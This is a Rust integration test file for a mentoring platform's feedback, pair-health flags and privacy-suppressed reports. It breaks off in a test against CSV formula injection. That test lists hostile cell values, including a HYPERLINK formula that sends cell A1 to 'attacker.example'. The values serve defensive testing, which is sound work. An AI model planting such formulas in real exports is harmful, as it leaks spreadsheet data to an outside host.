//! Feedback, pair health and anonymous reports (R13).

use std::collections::HashMap;

use mentorat_tests::{TestApp, World, id_of, spawn_app, video_at};
use serde_json::{Value, json};

use crate::working_life::{active_pair, as_, coordinator_view, schedule, started_hours_ago};

fn all_final(score: i64) -> Value {
    let dims = [
        "valued",
        "regular_space",
        "autonomy",
        "communication",
        "management_insight",
        "solidarity",
        "collective_intelligence",
        "open_environment",
    ];
    Value::Object(dims.iter().map(|d| (d.to_string(), json!(score))).collect())
}

fn feedback_path(world: &World) -> String {
    format!("/api/v1/pairs/{}/feedback", world.pair.id)
}

/// ME's check-in for a meeting: two scores and a comment.
fn check_in(meeting: &Value) -> Value {
    json!({"kind": "check_in", "meeting_id": meeting["id"],
           "scores": {"usefulness": 4, "atmosphere": 5}, "comment": "Très utile"})
}

fn final_evaluation() -> Value {
    json!({"kind": "final", "scores": all_final(4)})
}

/// A world whose pair held a meeting (MR scheduled it, it started an hour ago, MR closed
/// it as held); the meeting.
async fn held_meeting(app: &TestApp) -> (World, Value) {
    let world = app.world().build().await;
    let meeting = app.mentor().schedule(&world, &video_at(2)).await.json();
    app.meeting_started_hours_ago(&id_of(&meeting), 1).await;
    app.mentor().meeting_held(&world, &id_of(&meeting)).await;
    (world, meeting)
}

#[tokio::test]
async fn a_check_in_waits_for_the_meeting_to_be_held() {
    let app = spawn_app().await;
    let world = app.world().build().await;
    let meeting = app.mentor().schedule(&world, &video_at(2)).await.json();
    app.mentee()
        .post(&feedback_path(&world), &check_in(&meeting))
        .await
        .problem(409, "meeting_not_held");
}

#[tokio::test]
async fn each_member_checks_in_once_per_meeting() {
    let app = spawn_app().await;
    let (world, meeting) = held_meeting(&app).await;
    let path = feedback_path(&world);
    let given = app.mentee().post(&path, &check_in(&meeting)).await;
    assert_eq!(given.status, 201, "{}", given.text);
    assert_eq!(given.json()["scores"]["usefulness"], 4);
    app.mentee()
        .post(&path, &check_in(&meeting))
        .await
        .problem(409, "feedback_exists");
    // The other member checks in for the same meeting: theirs is separate.
    assert_eq!(
        app.mentor().post(&path, &check_in(&meeting)).await.status,
        201
    );
}

/// Every dimension, 1 to 5, and the right ones for the kind.
#[tokio::test]
async fn feedback_scores_are_the_kinds_dimensions_from_1_to_5() {
    let app = spawn_app().await;
    let (world, meeting) = held_meeting(&app).await;
    let bad = app
        .mentee()
        .post(
            &feedback_path(&world),
            &json!({"kind": "check_in", "meeting_id": meeting["id"],
                    "scores": {"usefulness": 6, "valued": 3}}),
        )
        .await
        .problem(422, "validation_failed");
    let pointers: Vec<&str> = bad["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["pointer"].as_str().unwrap())
        .collect();
    assert!(pointers.contains(&"/scores/usefulness"), "{bad}");
    assert!(pointers.contains(&"/scores/valued"), "{bad}");
    assert!(pointers.contains(&"/scores/atmosphere"), "{bad}");
}

/// The final evaluation waits for the end, then comes once.
#[tokio::test]
async fn the_final_evaluation_waits_for_the_end_then_comes_once() {
    let app = spawn_app().await;
    let world = app.world().build().await;
    let path = feedback_path(&world);
    app.mentee()
        .post(&path, &final_evaluation())
        .await
        .problem(409, "pair_not_finished");
    app.mentor().end_pair(&world, "goals_reached").await;
    assert_eq!(
        app.mentee().post(&path, &final_evaluation()).await.status,
        201
    );
    app.mentee()
        .post(&path, &final_evaluation())
        .await
        .problem(409, "feedback_exists");
}

/// Each member reads their own answers only.
#[tokio::test]
async fn each_member_reads_their_own_feedback_only() {
    let app = spawn_app().await;
    let (world, meeting) = held_meeting(&app).await;
    let path = feedback_path(&world);
    for who in [app.mentee(), app.mentor()] {
        assert_eq!(who.post(&path, &check_in(&meeting)).await.status, 201);
    }
    app.mentor().end_pair(&world, "goals_reached").await;
    assert_eq!(
        app.mentee().post(&path, &final_evaluation()).await.status,
        201
    );
    let mine = app.mentee().get(&path).await.json();
    assert_eq!(mine["items"].as_array().unwrap().len(), 2, "{mine}");
    assert_eq!(mine["items"][0]["comment"], "Très utile");
    let theirs = app.mentor().get(&path).await.json();
    assert_eq!(theirs["items"].as_array().unwrap().len(), 1);
}

/// Nobody else gives or reads feedback for the pair.
#[tokio::test]
async fn only_the_members_give_or_read_a_pairs_feedback() {
    let app = spawn_app().await;
    let world = app.world().build().await;
    let path = feedback_path(&world);
    app.mentor().end_pair(&world, "goals_reached").await;
    for (who, status, code) in [
        (app.outsider(), 404, "not_found"),
        (app.hris(), 404, "not_found"),
        (app.analyst(), 404, "not_found"),
        (app.coordinator(), 403, "confidential"),
    ] {
        who.get(&path).await.problem(status, code);
        who.post(&path, &final_evaluation())
            .await
            .problem(status, code);
    }
}

#[tokio::test]
async fn pair_health_is_the_coordinators_and_shows_flags_not_content() {
    let app = spawn_app().await;
    let pair = crate::working_life::pair_with(&app, json!({"cadence_days": 7}), false).await;
    let health = format!("/api/v1/programs/{}/pair-health", pair.program);
    let page = app.get(&health, Some(&app.as_coordinator())).await;
    assert_eq!(page.status, 200, "{}", page.text);
    assert_eq!(page.json()["items"][0]["pair_id"], pair.id.as_str());
    assert_eq!(page.json()["items"][0]["flags"], json!([]));
    app.time_passes(
        "UPDATE pairs SET activated_at = $1 WHERE id = $2",
        vec![
            (chrono::Utc::now() - chrono::Duration::days(10)).into(),
            uuid::Uuid::parse_str(&pair.id).unwrap().into(),
        ],
    )
    .await;
    let overdue = app
        .get(
            &format!("{health}?flag=overdue"),
            Some(&app.as_coordinator()),
        )
        .await
        .json();
    assert_eq!(overdue["items"].as_array().unwrap().len(), 1, "{overdue}");
    assert_eq!(overdue["items"][0]["flags"], json!(["overdue"]));
    let owed = app
        .get(
            &format!("{health}?flag=reschedule_owed"),
            Some(&app.as_coordinator()),
        )
        .await
        .json();
    assert_eq!(owed["items"], json!([]));
    assert_eq!(
        coordinator_view(&app, &pair).await["flags"],
        json!(["overdue"])
    );
    for token in [app.as_analyst(), app.as_hris(), as_("ME")] {
        app.get(&health, Some(&token))
            .await
            .problem(403, "forbidden");
    }
}

/// Pairs by the mentee's department: Alpha has 4 people, Delta 2, Beta 5, Gamma 10.
async fn population(app: &TestApp) -> String {
    let mut people = Vec::new();
    let mut pairs: Vec<(String, String)> = Vec::new();
    let mut add = |dept: &str, mentors: usize, mentees: &[usize]| {
        for m in 0..mentors {
            people.push((format!("{dept}M{m}"), "Mentors".to_owned()));
        }
        for (e, m) in mentees.iter().enumerate() {
            people.push((format!("{dept}E{e}"), dept.to_owned()));
            pairs.push((format!("{dept}M{m}"), format!("{dept}E{e}")));
        }
    };
    add("Alpha", 2, &[0, 1]);
    add("Delta", 1, &[0]);
    add("Beta", 2, &[0, 1, 1]);
    add("Gamma", 5, &[0, 1, 2, 3, 4]);
    let rows: Vec<Value> = people
        .iter()
        .map(|(id, dept)| {
            json!({"external_id": id, "given_name": id, "family_name": "X",
                   "email": format!("{}@chu.example", id.to_lowercase()), "department": dept})
        })
        .collect();
    let report = app.hris().import_people(&Value::Array(rows)).await.json();
    assert_eq!(report["created"], people.len(), "{report}");
    let program = id_of(&app.create_program("Rapport").await);
    let ids = app.person_ids().await;
    let mut enrollment = HashMap::new();
    for (id, _) in &people {
        let role = if id.contains('M') { "mentor" } else { "mentee" };
        let e = app.enroll(&program, &ids[id], role).await;
        enrollment.insert(id.clone(), id_of(&e));
    }
    for (mentor, mentee) in &pairs {
        let reply = app
            .coordinator()
            .propose_pair(&program, &enrollment[mentor], &enrollment[mentee])
            .await;
        assert_eq!(reply.status, 201, "{mentor}/{mentee}: {}", reply.text);
    }
    program
}

/// The program's pairs as listed to a coordinator, and the Gamma group's five as (pair id,
/// mentor, mentee), mentees in order.
async fn gamma_pairs(app: &TestApp, program: &str) -> (Value, Vec<(String, String, String)>) {
    let listed = app
        .get(
            &format!("/api/v1/pairs?program_id={program}&limit=100"),
            Some(&app.as_coordinator()),
        )
        .await
        .json();
    let name = |p: &Value, side: &str| p[side]["given_name"].as_str().unwrap().to_owned();
    let mut gamma: Vec<(String, String, String)> = listed["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|p| name(p, "mentee").starts_with("Gamma"))
        .map(|p| {
            (
                p["id"].as_str().unwrap().to_owned(),
                name(p, "mentor"),
                name(p, "mentee"),
            )
        })
        .collect();
    gamma.sort_by(|a, b| a.2.cmp(&b.2));
    assert_eq!(gamma.len(), 5, "{listed}");
    (listed, gamma)
}

fn group<'a>(report: &'a Value, name: &str) -> &'a Value {
    report["groups"]
        .as_array()
        .unwrap()
        .iter()
        .find(|g| g["group"] == name)
        .unwrap_or_else(|| panic!("no group {name} in {report}"))
}

/// R13 on cells: a department × site × month cell of fewer than five mentees is in no figure —
/// not its group's, not the total's — so the total minus the groups shown is nothing.
#[tokio::test]
async fn a_group_under_five_is_suppressed_and_no_subtraction_brings_it_back() {
    let app = spawn_app().await;
    let program = population(&app).await;
    crate::r13::all_happened_on(&app, crate::r13::last_month(5)).await;
    let path = format!("/api/v1/programs/{program}/report?group_by=department");
    let reply = app.get(&path, Some(&app.as_analyst())).await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    let report = reply.json();
    assert_eq!(report["k"], 5);
    // 2 mentees: no figure, and not even listed (its name would say someone of Alpha took
    // part); 3 mentees (5 people with their mentors): the unit is the mentee, not listed
    // either.
    let listed: Vec<&Value> = report["groups"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| &g["group"])
        .collect();
    assert_eq!(listed, [&json!("Gamma")], "{report}");
    // 5 mentees: shown.
    let gamma = group(&report, "Gamma");
    assert_eq!(gamma["suppressed"], false, "{report}");
    assert_eq!(gamma["people"], 5);
    assert_eq!(gamma["pairs"], 5);
    assert_eq!(gamma["pairs_by_status"]["proposed"], 5);
    assert_eq!(gamma["share_cross_department"], 1.0);
    // The total is what the groups show: Alpha, Beta and Delta are in none of it.
    let total = &report["total"];
    assert_eq!(total["suppressed"], false);
    assert_eq!(total["people"], 5);
    assert_eq!(total["pairs"], 5);
    // Nothing counts what was left out (withdrawn, always null).
    assert_eq!(total["cells_left_out"], Value::Null);
    let visible: i64 = report["groups"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|g| g["pairs"].as_i64())
        .sum();
    assert_eq!(total["pairs"].as_i64().unwrap() - visible, 0);

    // The same as CSV, cell for cell.
    let csv = app
        .send(
            app.client
                .get(app.url(&path))
                .bearer_auth(app.as_coordinator())
                .header("accept", "text/csv"),
        )
        .await;
    assert_eq!(csv.status, 200);
    assert!(csv.header("content-type").unwrap().starts_with("text/csv"));
    let mut lines = csv.text.lines();
    let header: Vec<&str> = lines.next().unwrap().split(',').collect();
    let rows: Vec<Vec<&str>> = lines.map(|l| l.split(',').collect()).collect();
    assert_eq!(rows.len(), report["groups"].as_array().unwrap().len() + 1);
    for row in &rows {
        let name = row[0];
        let json_row = if name == "(total)" {
            total
        } else {
            group(&report, name)
        };
        for (column, value) in header.iter().zip(row) {
            let expected = match *column {
                "group" => continue,
                "suppressed" => json_row["suppressed"].to_string(),
                c if c.starts_with("pairs_") => {
                    cell(&json_row["pairs_by_status"][&c["pairs_".len()..]])
                }
                c if c.starts_with("feedback_") => {
                    cell(&json_row["feedback"][&c["feedback_".len()..]])
                }
                c => cell(&json_row[c]),
            };
            assert_eq!(*value, expected, "{name} {column}");
        }
    }

    // Pair-level views stay out of the analysts' reach; participants and hris get nothing.
    app.get(
        &format!("/api/v1/programs/{program}/pair-health"),
        Some(&app.as_analyst()),
    )
    .await
    .problem(403, "forbidden");
    app.get("/api/v1/pairs", Some(&app.as_analyst()))
        .await
        .problem(403, "forbidden");
    for token in [app.as_hris(), as_("AlphaE0")] {
        app.get(&path, Some(&token)).await.problem(403, "forbidden");
    }
    let bad = app
        .get(
            &format!("/api/v1/programs/{program}/report?from=2027-01-02&to=2027-01-01"),
            Some(&app.as_analyst()),
        )
        .await
        .problem(422, "validation_failed");
    assert_eq!(bad["errors"][0]["pointer"], "/from");
}

fn cell(v: &Value) -> String {
    match v {
        Value::Null => String::new(),
        Value::Number(n) => match n.as_f64() {
            Some(f) if n.is_f64() => f.to_string(),
            _ => n.to_string(),
        },
        other => other.to_string(),
    }
}

#[tokio::test]
async fn a_program_too_small_shows_no_figure_at_all() {
    let app = spawn_app().await;
    let pair = active_pair(&app).await;
    let report = app
        .get(
            &format!("/api/v1/programs/{}/report", pair.program),
            Some(&app.as_coordinator()),
        )
        .await
        .json();
    assert_eq!(report["total"]["suppressed"], true, "{report}");
    assert_eq!(report["total"]["pairs"], Value::Null);
    assert_eq!(report["groups"], json!([]));
}

/// Every figure of the report counts what happened: in the Gamma group (5 pairs, 10 people)
/// each pair holds one meeting, misses one, cancels one late and one early and makes up for
/// the early one; three agree on an objective, one achieves it; the five mentees check in.
/// A mentee who later moves to another department does not move the pair's history.
#[tokio::test]
async fn report_figures_count_what_happened() {
    let app = spawn_app().await;
    let program = population(&app).await;
    let coordinator = app.as_coordinator();
    let (_, gamma) = gamma_pairs(&app, &program).await;
    let post = |path: String, who: String, body: Value| {
        let app = &app;
        async move {
            let reply = app.post_json(&path, Some(&as_(&who)), &body).await;
            assert!(reply.status < 300, "{path}: {}", reply.text);
            reply.json()
        }
    };
    for (i, (pair, mr, me)) in gamma.iter().enumerate() {
        app.both_accept(pair, mr, me).await;
        let p = crate::working_life::Pair {
            program: program.clone(),
            id: pair.clone(),
        };
        let meetings = format!("/api/v1/pairs/{pair}/meetings");
        let held = schedule(&app, &p, mr, video_at(4)).await.json();
        let held = held["id"].as_str().unwrap().to_owned();
        started_hours_ago(&app, &held, 5).await;
        post(format!("{meetings}/{held}/held"), mr.clone(), json!({})).await;
        let missed = schedule(&app, &p, mr, video_at(6)).await.json();
        let missed = missed["id"].as_str().unwrap().to_owned();
        started_hours_ago(&app, &missed, 2).await;
        post(format!("{meetings}/{missed}/missed"), me.clone(), json!({})).await;
        let late = schedule(&app, &p, me, video_at(2)).await.json();
        let late = post(
            format!("{meetings}/{}/cancel", late["id"].as_str().unwrap()),
            me.clone(),
            json!({"reason": "Garde"}),
        )
        .await;
        assert_eq!(late["late"], true, "{late}");
        let early = schedule(&app, &p, mr, video_at(200)).await.json();
        let early = early["id"].as_str().unwrap().to_owned();
        post(
            format!("{meetings}/{early}/cancel"),
            mr.clone(),
            json!({"reason": "Formation"}),
        )
        .await;
        // Cancelled 1, 2, … 5 days ago, then made up for now: 3 days on average.
        app.time_passes(
            "UPDATE meetings SET cancelled_at = $1 WHERE id = $2",
            vec![
                (chrono::Utc::now() - chrono::Duration::days(i as i64 + 1)).into(),
                uuid::Uuid::parse_str(&early).unwrap().into(),
            ],
        )
        .await;
        let mut again = video_at(300);
        again["reschedules"] = json!(early);
        let again = schedule(&app, &p, mr, again).await;
        assert_eq!(again.status, 201, "{}", again.text);
        post(
            format!("/api/v1/pairs/{pair}/feedback"),
            me.clone(),
            json!({"kind": "check_in", "meeting_id": held,
                   "scores": {"usefulness": i + 1, "atmosphere": 4}}),
        )
        .await;
        {
            let objective = post(
                format!("/api/v1/pairs/{pair}/objectives"),
                me.clone(),
                json!({"title": "Prendre la parole en staff"}),
            )
            .await;
            let objective = format!(
                "/api/v1/pairs/{pair}/objectives/{}",
                objective["id"].as_str().unwrap()
            );
            post(format!("{objective}/agree"), mr.clone(), json!({})).await;
            if i == 0 {
                let done = app
                    .patch_json(
                        &objective,
                        Some(&as_(me)),
                        None,
                        &json!({"status": "achieved"}),
                    )
                    .await;
                assert_eq!(done.status, 200, "{}", done.text);
            }
        }
    }
    // Gamma's first mentee moves to Beta: the pair stays in Gamma's figures.
    let moved = app
        .send(
            app.client
                .put(app.url("/api/v1/people/by-external-id/GammaE0"))
                .bearer_auth(app.as_hris())
                .json(&json!({"given_name": "GammaE0", "family_name": "X",
                              "email": "gammae0@chu.example", "department": "Beta"})),
        )
        .await;
    assert_eq!(moved.status, 200, "{}", moved.text);

    // All of it happened last month: a month is reported once it has closed.
    let last_month = crate::r13::last_month(5);
    crate::r13::all_happened_on(&app, last_month).await;
    let window = |from: chrono::NaiveDate, to: chrono::NaiveDate| {
        format!("/api/v1/programs/{program}/report?group_by=department&from={from}&to={to}")
    };
    let first = crate::r13::last_month(1);
    let report = app
        .get(
            &window(first, first + chrono::Duration::days(40)),
            Some(&app.as_analyst()),
        )
        .await
        .json();
    let g = group(&report, "Gamma");
    assert_eq!(g["suppressed"], false, "{report}");
    // The mentees (the unit of R13).
    assert_eq!(g["people"], 5);
    assert_eq!(g["pairs"], 5);
    assert_eq!(g["pairs_by_status"]["active"], 5);
    assert_eq!(g["meetings_held"], 5, "{g}");
    assert_eq!(g["meetings_missed"], 5);
    assert_eq!(g["meetings_cancelled"], 10);
    assert_eq!(g["meetings_cancelled_late"], 5);
    // Five make-ups: the average of their delays (a sum over a count); the median is
    // withdrawn (one person's own delay).
    let average = g["average_reschedule_days"]
        .as_f64()
        .unwrap_or_else(|| panic!("{g}"));
    assert!((average - 3.0).abs() < 0.01, "{average}");
    assert_eq!(g["median_reschedule_days"], Value::Null);
    // Five pairs agreed their first objective, one had it achieved: a cell of one mentee
    // for that change, in no figure. The shares of the pairs formed are withdrawn (R13).
    assert_eq!(g["pairs_with_objectives_agreed"], 5);
    assert_eq!(g["pairs_with_objectives_achieved"], Value::Null);
    assert_eq!(g["share_with_agreed_objectives"], Value::Null);
    assert_eq!(g["share_with_achieved_objectives"], Value::Null);
    assert_eq!(g["share_cross_department"], 1.0);
    assert_eq!(g["feedback"]["usefulness"], 3.0);
    assert_eq!(g["feedback"]["atmosphere"], 4.0);
    // Final evaluations: nobody has given one, so the dimensions say nothing.
    assert!(
        g["feedback"].get("valued").is_none_or(Value::is_null),
        "{g}"
    );
    // The total: Gamma's, the other departments' cells being under five mentees.
    let total = &report["total"];
    assert_eq!(total["meetings_held"], 5);
    assert_eq!(total["meetings_cancelled"], 10);
    assert_eq!(total["pairs"], 5);
    // `proposed`: the pairs formed in the window.
    assert_eq!(total["pairs_by_status"]["proposed"], 5);
    // The other departments' three cells, and Gamma's of the objectives achieved, are left
    // out, and nothing counts them.
    assert_eq!(total["cells_left_out"], Value::Null);
    assert_eq!(g["cells_left_out"], Value::Null);
    assert_eq!(report["groups"].as_array().unwrap().len(), 1, "{report}");
    assert_eq!(total["feedback"]["usefulness"], 3.0);
    // The month before: nothing happened in it.
    let before = crate::r13::last_month(1) - chrono::Duration::days(1);
    let earlier = app
        .get(
            &window(before - chrono::Duration::days(20), before),
            Some(&coordinator),
        )
        .await
        .json();
    assert_eq!(earlier["total"]["pairs"], Value::Null, "{earlier}");
    assert_eq!(earlier["total"]["meetings_held"], Value::Null);
    assert_eq!(earlier["total"]["average_reschedule_days"], Value::Null);
    assert_eq!(earlier["groups"], json!([]));
}

/// The pair-health filter finds exactly the pairs showing each flag, page after page: in the
/// Gamma group, pair 0 holds a meeting with no objective and its mentor becomes the mentee's
/// manager, pair 1 owes a reschedule, pair 2 has been quiet for 60 days, pair 3 too but has
/// a meeting ahead, pair 4's mentee leaves; then a new charter nobody has accepted yet.
#[tokio::test]
async fn pair_health_filters_find_each_flag_page_after_page() {
    let app = spawn_app().await;
    let program = population(&app).await;
    let coordinator = app.as_coordinator();
    let (listed, gamma) = gamma_pairs(&app, &program).await;
    for (pair, mr, me) in &gamma {
        app.both_accept(pair, mr, me).await;
    }
    let handle = |i: usize| crate::working_life::Pair {
        program: program.clone(),
        id: gamma[i].0.clone(),
    };
    let quiet_since = |i: usize| {
        app.time_passes(
            "UPDATE pairs SET activated_at = $1 WHERE id = $2",
            vec![
                (chrono::Utc::now() - chrono::Duration::days(60)).into(),
                uuid::Uuid::parse_str(&gamma[i].0).unwrap().into(),
            ],
        )
    };
    // Pair 0: a meeting held, no objective; then its mentor manages its mentee.
    let held = schedule(&app, &handle(0), &gamma[0].1, video_at(4))
        .await
        .json();
    let held = held["id"].as_str().unwrap().to_owned();
    started_hours_ago(&app, &held, 5).await;
    let reply = app
        .post_json(
            &format!("/api/v1/pairs/{}/meetings/{held}/held", gamma[0].0),
            Some(&as_(&gamma[0].1)),
            &json!({}),
        )
        .await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    // Pair 1: a cancellation not made up for.
    let cancelled = schedule(&app, &handle(1), &gamma[1].1, video_at(3))
        .await
        .json();
    let reply = app
        .post_json(
            &format!(
                "/api/v1/pairs/{}/meetings/{}/cancel",
                gamma[1].0,
                cancelled["id"].as_str().unwrap()
            ),
            Some(&as_(&gamma[1].1)),
            &json!({"reason": "Garde"}),
        )
        .await;
    assert_eq!(reply.status, 200, "{}", reply.text);
    // Pairs 2 and 3: quiet for 60 days; pair 3 has a meeting ahead.
    quiet_since(2).await;
    quiet_since(3).await;
    assert_eq!(
        schedule(&app, &handle(3), &gamma[3].1, video_at(2))
            .await
            .status,
        201
    );
    // HRIS: GammaM0 becomes GammaE0's manager; GammaE4 leaves.
    for (who, body) in [
        (
            "GammaE0",
            json!({"given_name": "GammaE0", "family_name": "X", "email": "gammae0@chu.example",
                   "department": "Gamma", "manager_external_id": "GammaM0"}),
        ),
        (
            "GammaE4",
            json!({"given_name": "GammaE4", "family_name": "X", "email": "gammae4@chu.example",
                   "department": "Gamma", "active": false}),
        ),
    ] {
        let reply = app
            .send(
                app.client
                    .put(app.url(&format!("/api/v1/people/by-external-id/{who}")))
                    .bearer_auth(app.as_hris())
                    .json(&body),
            )
            .await;
        assert_eq!(reply.status, 200, "{}", reply.text);
    }
    let health = format!("/api/v1/programs/{program}/pair-health");
    let filtered = |flag: &'static str, limit: usize| {
        let app = &app;
        let health = health.clone();
        async move {
            let mut seen: Vec<String> = Vec::new();
            let mut cursor: Option<String> = None;
            loop {
                let mut path = format!("{health}?flag={flag}&limit={limit}");
                if let Some(c) = &cursor {
                    path.push_str(&format!("&cursor={c}"));
                }
                let page = app.get(&path, Some(&app.as_coordinator())).await;
                assert_eq!(page.status, 200, "{}", page.text);
                let page = page.json();
                let items = page["items"].as_array().unwrap();
                assert!(items.len() <= limit);
                for item in items {
                    assert!(
                        item["flags"].as_array().unwrap().contains(&json!(flag)),
                        "{item}"
                    );
                    seen.push(item["pair_id"].as_str().unwrap().to_owned());
                }
                match page["next_cursor"].as_str() {
                    Some(c) => cursor = Some(c.to_owned()),
                    None => break,
                }
            }
            seen.sort();
            seen
        }
    };
    let ids = |which: &[usize]| {
        let mut v: Vec<String> = which.iter().map(|&i| gamma[i].0.clone()).collect();
        v.sort();
        v
    };
    assert_eq!(filtered("objectives_missing", 1).await, ids(&[0]));
    assert_eq!(filtered("hierarchy_conflict", 1).await, ids(&[0]));
    assert_eq!(filtered("reschedule_owed", 1).await, ids(&[1]));
    assert_eq!(filtered("overdue", 1).await, ids(&[2]));
    assert_eq!(filtered("suspended", 1).await, ids(&[4]));
    assert_eq!(filtered("charter_pending", 2).await, Vec::<String>::new());
    // A new charter: every open pair but the suspended one waits for it, 10 pairs in pages of 2.
    let reply = app
        .post_json(
            &format!("/api/v1/programs/{program}/charter-versions"),
            Some(&coordinator),
            &json!({"text": "# Charte v1"}),
        )
        .await;
    assert_eq!(reply.status, 201, "{}", reply.text);
    let pending = filtered("charter_pending", 2).await;
    assert_eq!(pending.len(), 10, "{pending:?}");
    assert!(!pending.contains(&gamma[4].0));
    // Pair 1 makes up for its cancellation (its members accept the new charter first): it
    // owes nothing any more.
    for (who, e) in [
        (
            &gamma[1].1,
            &listed_enrollment(&listed, &gamma[1].0, "mentor"),
        ),
        (
            &gamma[1].2,
            &listed_enrollment(&listed, &gamma[1].0, "mentee"),
        ),
    ] {
        crate::working_life::accept_charter(&app, &program, who, e, 1).await;
    }
    let mut again = video_at(5);
    again["reschedules"] = cancelled["id"].clone();
    let again = schedule(&app, &handle(1), &gamma[1].2, again).await;
    assert_eq!(again.status, 201, "{}", again.text);
    assert_eq!(filtered("reschedule_owed", 1).await, Vec::<String>::new());
}

fn listed_enrollment(listed: &Value, pair: &str, role: &str) -> String {
    listed["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["id"] == pair)
        .unwrap()[role]["enrollment_id"]
        .as_str()
        .unwrap()
        .to_owned()
}

/// R13 over people who did something: a pair that ended has its meeting ahead cancelled —
/// one mentee's meeting cell, under five, in no figure: not Gamma's (whose five pairs are
/// shown), not the total's. And never a group of nobody.
#[tokio::test]
async fn a_pair_that_ended_leaves_no_figure_in_later_windows() {
    let app = spawn_app().await;
    let program = population(&app).await;
    let (_, gamma) = gamma_pairs(&app, &program).await;
    let (pair, mr, me) = &gamma[0];
    app.both_accept(pair, mr, me).await;
    let handle = crate::working_life::Pair {
        program: program.clone(),
        id: pair.clone(),
    };
    assert_eq!(schedule(&app, &handle, mr, video_at(72)).await.status, 201);
    let ended = app
        .post_json(
            &format!("/api/v1/pairs/{pair}/end"),
            Some(&as_(me)),
            &json!({"reason_category": "mismatch"}),
        )
        .await;
    assert_eq!(ended.status, 200, "{}", ended.text);
    crate::r13::all_happened_on(&app, crate::r13::last_month(5)).await;
    let report = app
        .get(
            &format!("/api/v1/programs/{program}/report?group_by=department"),
            Some(&app.as_coordinator()),
        )
        .await
        .json();
    let g = group(&report, "Gamma");
    assert_eq!(g["pairs"], 5, "{report}");
    // The one pair that ended (and was accepted) is a cell of one mentee for those changes:
    // in no figure either.
    assert_eq!(g["pairs_by_status"]["ended"], Value::Null);
    assert_eq!(g["pairs_by_status"]["active"], Value::Null);
    assert_eq!(g["meetings_cancelled"], Value::Null);
    assert_eq!(g["cells_left_out"], Value::Null);
    assert_eq!(report["total"]["meetings_cancelled"], Value::Null);
    for g in report["groups"].as_array().unwrap() {
        assert!(
            g["suppressed"] == false && g["people"].as_i64().unwrap() > 0,
            "a group listed without a figure: {g}"
        );
    }
}

/// Members of the five Gamma pairs cancel a meeting ahead and close a past one at the same
/// moment, and the program's coordinator closes it meanwhile: whatever the order, every
/// meeting is counted once, and the pair facts the health filter reads agree with the flags
/// the domain computes.
#[tokio::test]
async fn concurrent_writes_count_each_meeting_once() {
    let app = spawn_app().await;
    let program = population(&app).await;
    let (_, gamma) = gamma_pairs(&app, &program).await;
    let mut ahead = Vec::new();
    let mut past = Vec::new();
    for (pair, mr, me) in &gamma {
        app.both_accept(pair, mr, me).await;
        let handle = crate::working_life::Pair {
            program: program.clone(),
            id: pair.clone(),
        };
        for hours in [30, 60] {
            let m = schedule(&app, &handle, mr, video_at(hours)).await.json();
            ahead.push((
                pair.clone(),
                me.clone(),
                m["id"].as_str().unwrap().to_owned(),
            ));
        }
        let m = schedule(&app, &handle, mr, video_at(5)).await.json();
        let m = m["id"].as_str().unwrap().to_owned();
        started_hours_ago(&app, &m, 2).await;
        past.push((pair.clone(), mr.clone(), m));
    }
    // At once: each pair's mentee cancels its first meeting ahead, its mentor marks the past
    // one missed.
    let cancels = ahead.iter().step_by(2).map(|(pair, me, m)| {
        post_as(
            &app,
            format!("/api/v1/pairs/{pair}/meetings/{m}/cancel"),
            me,
            json!({"reason": "Garde"}),
        )
    });
    let misses = past.iter().map(|(pair, mr, m)| {
        post_as(
            &app,
            format!("/api/v1/pairs/{pair}/meetings/{m}/missed"),
            mr,
            json!({}),
        )
    });
    let (cancelled, missed) = futures_util::future::join(
        futures_util::future::join_all(cancels),
        futures_util::future::join_all(misses),
    )
    .await;
    for reply in cancelled.iter().chain(&missed) {
        assert_eq!(reply.status, 200, "{}", reply.text);
    }
    let health = format!("/api/v1/programs/{program}/pair-health?limit=100");
    let all = app.get(&health, Some(&app.as_coordinator())).await.json();
    let flagged: Vec<String> = all["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|p| {
            p["flags"]
                .as_array()
                .unwrap()
                .contains(&json!("reschedule_owed"))
        })
        .map(|p| p["pair_id"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(flagged.len(), 5, "{all}");
    let filtered = app
        .get(
            &format!("{health}&flag=reschedule_owed"),
            Some(&app.as_coordinator()),
        )
        .await
        .json();
    assert_eq!(filtered["items"].as_array().unwrap().len(), 5, "{filtered}");

    // The program closes while members cancel their second meeting ahead.
    let close = async {
        for status in ["open", "running", "closed"] {
            let reply = app
                .send(
                    app.client
                        .patch(app.url(&format!("/api/v1/programs/{program}")))
                        .bearer_auth(app.as_coordinator())
                        .json(&json!({"status": status})),
                )
                .await;
            assert_eq!(reply.status, 200, "{}", reply.text);
        }
    };
    let cancels = ahead.iter().skip(1).step_by(2).map(|(pair, me, m)| {
        post_as(
            &app,
            format!("/api/v1/pairs/{pair}/meetings/{m}/cancel"),
            me,
            json!({"reason": "Garde"}),
        )
    });
    let ((), cancelled) =
        futures_util::future::join(close, futures_util::future::join_all(cancels)).await;
    let mut by_members = 5;
    for reply in &cancelled {
        // Done, or refused because the pair completed first — never a failure.
        assert!(reply.status < 500, "{}", reply.text);
        if reply.status == 200 {
            by_members += 1;
        }
    }
    crate::r13::all_happened_on(&app, crate::r13::last_month(5)).await;
    let report = app
        .get(
            &format!("/api/v1/programs/{program}/report?group_by=department"),
            Some(&app.as_coordinator()),
        )
        .await
        .json();
    // The members' cancellations, each counted once; the close's own are not theirs.
    assert_eq!(
        group(&report, "Gamma")["meetings_cancelled"],
        by_members,
        "{report}"
    );
    assert_eq!(group(&report, "Gamma")["meetings_missed"], 5);
}

async fn post_as(app: &TestApp, path: String, who: &str, body: Value) -> mentorat_tests::Reply {
    app.post_json(&path, Some(&as_(who)), &body).await
}

/// Department names come from the HRIS; in a CSV report they are data, never formulas, and
/// none splits a row (OWASP CSV injection).
#[tokio::test]
async fn csv_report_cells_are_never_formulas_and_never_split_a_row() {
    let app = spawn_app().await;
    let hostile = [
        "=HYPERLINK(\"https://attacker.example/?d=\"&A1,\"Détails\")",
        "@SUM(1+1)",
        "-2+3",
        "+33 1 23",
        "a\rb",
        "Soins, bloc \"B\"",
    ];
    let mut rows = Vec::new();
